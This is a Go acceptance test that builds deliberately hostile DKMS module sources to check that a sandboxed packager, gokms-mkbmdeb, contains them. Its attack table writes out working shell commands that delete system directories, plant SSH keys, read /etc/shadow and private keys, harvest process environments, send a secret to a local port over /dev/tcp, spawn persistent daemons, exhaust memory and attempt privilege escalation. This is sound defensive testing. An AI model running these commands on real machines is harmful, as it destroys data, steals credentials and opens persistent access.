// SPDX-License-Identifier: MIT

package acceptance

import (
	"crypto/rand"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"text/tabwriter"
)

// attack is a source that is after something else than its module.
type attack struct {
	name string
	// The script is run by the dkms.conf's evaluation, PRE_BUILD, MAKE and
	// POST_BUILD, or only by what alone says. It prints "GOT thing" for what it
	// must not get. Words in capitals are those of hostileRun.expand.
	script string
	alone  string
	args   string // of gokms-mkbmdeb
	// code is its exit code, and says is part of its last error.
	code int
	says string
}

// attacks with the code 0 must not keep the module from being built, either.
var attacks = []attack{
	{name: "write to the system", script: `for d in / /usr /usr/bin /usr/lib /usr/src /usr/local/bin /etc /etc/cron.d /etc/apt /var /var/tmp /var/lib/dkms /var/lib/dpkg /var/spool /boot /opt /srv /run /dev/shm /lib/modules /lib/modules/KVER; do
		echo x >$d/hostile; mkdir $d/hostile.d; done; rm -rf /etc /boot /usr/bin; echo x >/usr/bin/make; chmod 777 /usr/bin`},
	{name: "write to homes", script: `for h in "$HOME" ~ ~root ~builder /root /home/builder; do mkdir -p $h/.ssh; echo key >>$h/.ssh/authorized_keys; echo x >>$h/.bashrc; rm -rf $h/private; done`},
	{name: "write to the source", script: `echo x >>SOURCE/hostile.c; rm -rf SOURCE; mkdir -p SOURCE; echo x >SOURCE/hostile`},
	{name: "replace the source in /usr/src", script: `cd /usr/src/hostile-1.0 && rm -f Kbuild README && echo x >README; mv /usr/src/hostile-1.0 /usr/src/gone; ln -s /etc /usr/src/hostile-2.0; echo x >/usr/src/neighbour-1.0/README && echo GOT neighbour; :`},
	{name: "write to other builds", script: `find / -xdev -path /proc -prune -o -name '*neighbour*' -print | grep -v '^/usr/src/neighbour-1.0$' | sed 's/^/GOT /'; ls -d /tmp/gokms-* ../../../../../cells && echo GOT cells; for d in /var/lib/dkms/neighbour/1.0/build TMP/gokms-*/cells/KVER/neighbour; do mkdir -p $d; echo evil >$d/prebuilt; done`},
	{name: "write to the output", script: `mkdir -p OUT; for f in OUT/neighbour-modules-KVER_1.0_ARCH.deb OUT/hostile.deb OUT/hostile.json; do echo x >$f; done; rm -rf OUT`},
	{name: "read the system's secrets", script: `cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_* /var/lib/dpkg/status | grep . && echo GOT shadow; head -c1 /dev/mem /dev/kmsg /proc/kcore | grep . && echo GOT memory; :`},
	{name: "read homes", script: `cat ~/.ssh/id /root/.ssh/id /home/builder/.ssh/id /home/builder/private/letter /proc/*/root/home/builder/private/letter | grep . && echo GOT key; ls -A /home /root | grep '^[^/]' && echo GOT home; grep -rs PATTERN /etc /home /root /srv /tmp /run /var && echo GOT secret; :`},
	{name: "read the caller's environment", script: `{ env; cat /proc/*/environ; } | tr '\0' '\n' | grep -a PATTERN && echo GOT environment; cat /proc/*/cmdline | grep -a gokms-mkbmdeb && echo GOT arguments; :`},
	{name: "call the host", script: `bash -c 'echo SECRET >/dev/tcp/127.0.0.1/PORT' && echo GOT loopback; perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0); print "GOT socket\n" if connect(S, pack("S", AF_UNIX) . "\0ABSTRACT")'`},
	{name: "call the world", script: `bash -c 'echo >/dev/udp/8.8.8.8/53' && echo GOT udp; getent hosts deb.debian.org && echo GOT name; ls /sys/class/net && echo GOT interfaces; grep -v 'lo:\||' /proc/net/dev && echo GOT device; :`},
	{name: "leave a daemon", alone: "MAKE", script: `(setsid sh -c 'trap "" TERM HUP INT; (sleep 86419 &); sleep 86419' >/dev/null 2>&1 </dev/null &); nohup setsid -f sleep 86419 >/dev/null 2>&1; sleep 0.3`},
	{name: "leave a daemon on the log", alone: "POST_BUILD", script: `setsid -f sleep 86419; sleep 0.3`},
	{name: "leave a daemon", alone: "evaluation", script: `setsid -f sleep 86419 >/dev/null 2>&1`, code: 2, says: "dkms.conf"},
	{name: "kill gokms", script: `kill -9 $PPID -1; kill -STOP -1; for p in $(cat /proc/[0-9]*/stat | cut -d' ' -f4); do kill -9 $p; done; pkill -9 gokms`, alone: "PRE_BUILD", code: 1, says: "PRE_BUILD"},
	{name: "kill gokms", script: `kill -9 -1`, alone: "evaluation", code: 2, says: "dkms.conf"},
	{name: "eat memory", script: `perl -e '$x = "a" x (600 << 20); sleep 60'`, alone: "MAKE", args: "--memory 200M", code: 1, says: "used more than 200 MiB of memory"},
	{name: "eat memory", script: `perl -e '$x = "a" x (3 << 30); print length $x' | grep . && echo GOT memory`, alone: "evaluation"},
	{name: "run for ever", script: `trap '' TERM INT HUP; while :; do sleep 86419; done`, alone: "MAKE", args: "--timeout 5s", code: 1, says: "took longer than 5s"},
	{name: "run for ever", script: `sleep 86419`, alone: "evaluation", code: 2, says: "ran for more than 10s"},
	{name: "fill the log", script: `yes hostile`, alone: "MAKE", code: 1, says: "output is larger than the limit of the log"},
	{name: "print for ever", script: `yes hostile`, alone: "evaluation", code: 2, says: "dkms.conf"},
	{name: "pass a link as module", script: `rm -f hostile.ko; ln -s /etc/shadow hostile.ko`, alone: "POST", code: 1, says: "hostile.ko"},
	{name: "pass a link to the host's module", script: `rm -f hostile.ko; ln -s /home/builder/private/letter hostile.ko`, alone: "POST", code: 1, says: "hostile.ko"},
	{name: "ask on the terminal", script: `exec 2>/dev/null; echo password: >/dev/tty && echo GOT terminal; read -r x </dev/tty && echo GOT answer; read -r x && echo GOT input; :`},
	{name: "gain rights", script: `test "$(id -u)" = 0 && echo GOT root; cp /usr/bin/id x && chmod u+s x && chown 0 x && echo GOT suid; sudo -n id && echo GOT sudo; su -c id root </dev/null && echo GOT su; mount -t tmpfs x /mnt && echo GOT mount; mknod m c 1 1 && echo GOT device; :`},
}

// conf is the dkms.conf of a source that copies a module made before.
func (a attack) conf() string {
	in := func(stage string) bool { return a.alone == "" || a.alone == stage }
	lines := []string{
		"PACKAGE_NAME=hostile", "PACKAGE_VERSION=1.0", "DEST_MODULE_LOCATION=/updates", "STRIP=no",
		`here=${BASH_SOURCE%/*}`, "GOT=",
	}
	if in("evaluation") {
		lines = append(lines, `GOT=$(sh $here/attack 2>/dev/null | grep '^GOT' | tr -cd 'A-Za-z0-9/. \n-')`)
	}
	build := "cp prebuilt hostile.ko"
	if in("MAKE") {
		build = "sh ./attack; " + build
	}
	if a.alone == "POST" { // in the place of the module
		build += "; sh ./attack"
	}
	lines = append(lines, `MAKE="echo '$GOT'; `+build+`"`)
	for _, stage := range []string{"PRE_BUILD", "POST_BUILD"} {
		if in(stage) {
			lines = append(lines, stage+"=attack")
		}
	}
	return strings.Join(lines, "\n") + "\n"
}

// hostileRun are the attacks of one user's builds in one container.
type hostileRun struct {
	*container
	user, home string
	kver       string
	secret     string
	port       int
	abstract   string
	called     chan string
}

const hostileSource = "/srv/hostile-1.0"

// expand fills in what is attacked.
func (h *hostileRun) expand(script string) string {
	return strings.NewReplacer("SOURCE", hostileSource, "OUT", h.home+"/out", "TMP", "/tmp", "KVER", h.kver, "ARCH", strings.SplitN(h.kver, "-", 3)[2],
		"SECRET", h.secret, "PATTERN", "[s]"+h.secret[1:], "PORT", fmt.Sprint(h.port), "ABSTRACT", h.abstract).Replace(script)
}

// listen waits for calls at the loopback of this machine, whose network the
// container has.
func (h *hostileRun) listen(t *testing.T) {
	t.Helper()
	h.called, h.abstract = make(chan string, 100), "gokms-"+rand.Text()
	for _, address := range [][2]string{{"tcp", "127.0.0.1:0"}, {"unix", "@" + h.abstract}} {
		l, err := net.Listen(address[0], address[1])
		must(t, err)
		t.Cleanup(func() { l.Close() })
		if tcp, ok := l.Addr().(*net.TCPAddr); ok {
			h.port = tcp.Port
		}
		go func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				conn.Close()
				h.called <- address[0]
			}
		}()
	}
}

// prepare puts there what is to be stolen, a good module, and its neighbour,
// which is built in the same run.
func (h *hostileRun) prepare(t *testing.T) {
	t.Helper()
	h.Shell(t, h.expand(`
		for home in /root /home/builder; do
			mkdir -p $home/.ssh $home/private; echo SECRET | tee $home/.ssh/id >$home/private/letter; chmod -R go= $home/.ssh $home/private
		done
		chown -R builder: /home/builder; echo "hidden:SECRET:::::::" >>/etc/shadow
		mkdir /srv/neighbour-1.0 /usr/src/neighbour-1.0 /srv/good; cd /srv/good
		echo 'obj-m := hostile.o' >Kbuild
		printf '#include <linux/module.h>\nMODULE_LICENSE("GPL");\nMODULE_DESCRIPTION("hostile");\n' >hostile.c
		make -C /lib/modules/KVER/build M=$PWD modules >/dev/null
		strip -g hostile.ko; cp hostile.ko prebuilt
		cd /srv/neighbour-1.0; cp ../good/prebuilt .
		printf '%s\n' PACKAGE_NAME=neighbour PACKAGE_VERSION=1.0 DEST_MODULE_LOCATION=/updates STRIP=no 'MAKE="cp prebuilt neighbour.ko"' >dkms.conf
	`))
}

// stamps are the times of the last change of each file in the container, which
// nobody can set, but for what results and temporary files are kept in.
func (h *hostileRun) stamps(t *testing.T) snapshot {
	t.Helper()
	s := snapshot{}
	must(t, filepath.WalkDir(h.dir, func(file string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		name := "/" + strings.TrimPrefix(strings.TrimPrefix(file, h.dir), "/")
		if slices.Contains([]string{"/proc", "/dev", "/sys", h.home + "/out"}, name) {
			return fs.SkipDir
		}
		if name == "/tmp" || name == h.home { // what comes and goes there leaves a time
			return nil
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		st := info.Sys().(*syscall.Stat_t)
		s[name] = fmt.Sprint(info.Mode(), st.Uid, st.Size, st.Mtim, st.Ctim)
		return nil
	}))
	return s
}

// outcome is a row of the table.
type outcome struct {
	code   int
	said   string
	got    []string
	change []string
}

// try builds one hostile source and its neighbour.
func (h *hostileRun) try(t *testing.T, a attack) outcome {
	t.Helper()
	dir := h.Path(hostileSource)
	must(t, errors.Join(os.RemoveAll(dir), os.RemoveAll(h.Path(h.home+"/out")), os.MkdirAll(dir, 0o777), os.Chmod(dir, 0o777)))
	prebuilt, err := os.ReadFile(h.Path("/srv/good/prebuilt"))
	must(t, err)
	for name, text := range map[string]string{
		"dkms.conf": a.conf(), "attack": "#!/bin/sh\n" + h.expand(a.script) + "\nexit 0\n", "README": "x\n", "Kbuild": "obj-m := hostile.o\n", "prebuilt": string(prebuilt),
	} {
		must(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o777))
	}
	h.Shell(t, `chown -R "$1": "$2"`, h.user, hostileSource)
	before := h.stamps(t)
	// A PID namespace ends with its first process: what is left shows before.
	code, out := h.TryAs(t, h.user, h.expand(`
		export TOKEN=SECRET DEBEMAIL=jane@example.org
		code=0
		script -qefc "timeout --foreground 60 gokms-mkbmdeb -k KVER -o out `+a.args+` SOURCE /srv/neighbour-1.0" /dev/null </dev/null >/tmp/said || code=$?
		cat /tmp/said; rm /tmp/said
		cat out/*.log | grep '^GOT' || :
		for p in /proc/[0-9]*; do
			case $(cat $p/comm) in sh | cat | "") ;; *) echo LEFT $(tr '\0' ' ' <$p/cmdline) ;; esac
		done 2>/dev/null
		exit $code`))
	o := outcome{code: code, change: h.stamps(t).since(before)}
	for line := range strings.Lines(strings.ReplaceAll(out, "\r", "")) {
		line = strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(line, "GOT"), strings.HasPrefix(line, "LEFT"), strings.Contains(line, h.secret):
			o.got = append(o.got, line)
		case strings.Contains(line, "error: "):
			_, o.said, _ = strings.Cut(line, "error: ")
		}
	}
	select {
	case network := <-h.called:
		o.got = append(o.got, "GOT called by "+network)
	default:
	}
	return o
}

// verify holds what happened against what should have.
func (h *hostileRun) verify(t *testing.T, a attack, o outcome, neighbour string) {
	t.Helper()
	if o.code != a.code || !strings.Contains(o.said, a.says) || (a.says == "") != (o.said == "") {
		t.Errorf("exit %d: %s; want %d: %s", o.code, o.said, a.code, a.says)
	}
	if len(o.got) > 0 {
		t.Errorf("it got %q", o.got)
	}
	if len(o.change) > 0 {
		t.Errorf("the host changed:\n%s", strings.Join(o.change, "\n"))
	}
	debs, err := filepath.Glob(h.Path(h.home + "/out/*.deb"))
	must(t, err)
	built := map[string]string{}
	for _, deb := range debs {
		text, err := os.ReadFile(deb)
		must(t, err)
		name, _, _ := strings.Cut(filepath.Base(deb), "-")
		built[name] = string(text)
	}
	want := map[int][]string{0: {"hostile", "neighbour"}, 1: {"neighbour"}, 2: nil}[a.code]
	if names := slices.Sorted(maps.Keys(built)); !slices.Equal(names, want) {
		t.Errorf("built %q; want %q", names, want)
	}
	if a.code < 2 && built["neighbour"] != neighbour {
		t.Error("the neighbour's package is not what it is alone")
	}
}

// TestHostile builds sources that attack the machine, as root and as an
// ordinary user, beside one that does not.
func TestHostile(t *testing.T) {
	acceptance(t)
	var table strings.Builder
	w := tabwriter.NewWriter(&table, 0, 8, 2, ' ', 0)
	fmt.Fprintln(w, "as\ttries to\tin\texit\tgokms says\tgot, left\thost")
	for _, user := range []string{"root", ordinary} {
		h := newHostileRun(t, user)
		h.As(t, user, h.expand(`DEBEMAIL=jane@example.org gokms-mkbmdeb -q -k KVER -o alone /srv/neighbour-1.0`))
		neighbour, err := os.ReadFile(h.Path(h.expand(h.home + "/alone/neighbour-modules-KVER_1.0_ARCH.deb")))
		must(t, err)
		for _, a := range attacks {
			in := a.alone
			if in == "" {
				in = "all steps"
			}
			t.Run(user+"/"+a.name+"/"+in, func(t *testing.T) {
				o := h.try(t, a)
				h.verify(t, a, o, string(neighbour))
				fmt.Fprintf(w, "%s\t%s\t%s\t%d\t%s\t%d\t%d changes\n", user, a.name, in, o.code, shortened(o.said), len(o.got), len(o.change))
			})
		}
	}
	must(t, w.Flush())
	t.Logf("%d attacks\n%s", 2*len(attacks), &table)
}

func shortened(text string) string {
	if len(text) > 90 {
		return text[:90] + "..."
	}
	return text
}

func newHostileRun(t *testing.T, user string) *hostileRun {
	t.Helper()
	h := &hostileRun{container: newContainer(t, builder(t)), user: user, home: "/home/" + user, secret: "secret" + rand.Text()}
	if user == "root" {
		h.home = "/root"
	}
	h.Copy(t, "/usr/local/bin", command(t, "gokms-mkbmdeb"))
	h.kver = h.container.kver(t)
	h.listen(t)
	h.prepare(t)
	return h
}

// TestHostileScripts proves that the attacks can succeed: without gokms, they
// do.
func TestHostileScripts(t *testing.T) {
	acceptance(t)
	h := newHostileRun(t, ordinary)
	for _, name := range []string{"read homes", "read the caller's environment", "call the host", "ask on the terminal", "leave a daemon on the log"} {
		i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == name })
		must(t, os.WriteFile(h.Path("/srv/attack"), []byte(h.expand(attacks[i].script)), 0o755))
		_, out := h.TryAs(t, ordinary, h.expand(`export TOKEN=SECRET; timeout --foreground 5 script -qefc 'timeout --foreground 3 sh /srv/attack; cat /proc/[0-9]*/comm' /dev/null </dev/null`))
		if !strings.Contains(out, "GOT") && !strings.Contains(out, "sleep") {
			t.Errorf("%s got nothing: %s", name, out)
		}
	}
	must(t, os.WriteFile(h.Path("/srv/attack"), []byte(h.expand(attacks[0].script)), 0o755))
	before := h.stamps(t)
	h.TryAs(t, "root", `sh /srv/attack`)
	if changes := h.stamps(t).since(before); len(changes) < 100 {
		t.Errorf("%s: %d changes: %q", attacks[0].name, len(changes), changes)
	}
}
